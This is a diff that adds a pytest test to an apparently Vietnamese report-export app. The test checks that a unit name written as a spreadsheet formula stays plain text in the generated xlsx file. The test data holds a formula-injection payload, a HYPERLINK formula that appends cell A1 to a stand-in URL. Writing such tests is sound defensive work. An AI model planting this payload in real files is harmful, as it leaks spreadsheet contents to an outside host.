@@ -152,3 +152,13 @@ def test_ranking_xlsx_and_docx(ranking, world):
 def test_ranking_of_a_criteria_framework_is_refused(ntm, world):
     with pytest.raises(ReportError, match="không phải bộ chấm điểm"):
         export_report("ranking", "xlsx", ntm, "2024", unit=world.district)
+
+
+def test_a_unit_name_that_looks_like_a_formula_stays_text(ntm, world):
+    Unit.objects.filter(pk=world.commune_b.pk).update(name='=HYPERLINK("http://x/?"&A1,"Phú Mỹ")')
+    out = export_report("matrix", "xlsx", ntm, "2024", unit=world.district)
+    ws = openpyxl.load_workbook(BytesIO(out.content)).active
+    cell = next(c for row in ws.iter_rows(min_col=2, max_col=2) for c in row
+                if str(c.value).startswith("=HYPERLINK"))
+    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://x/?"&A1,"Phú Mỹ")'
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
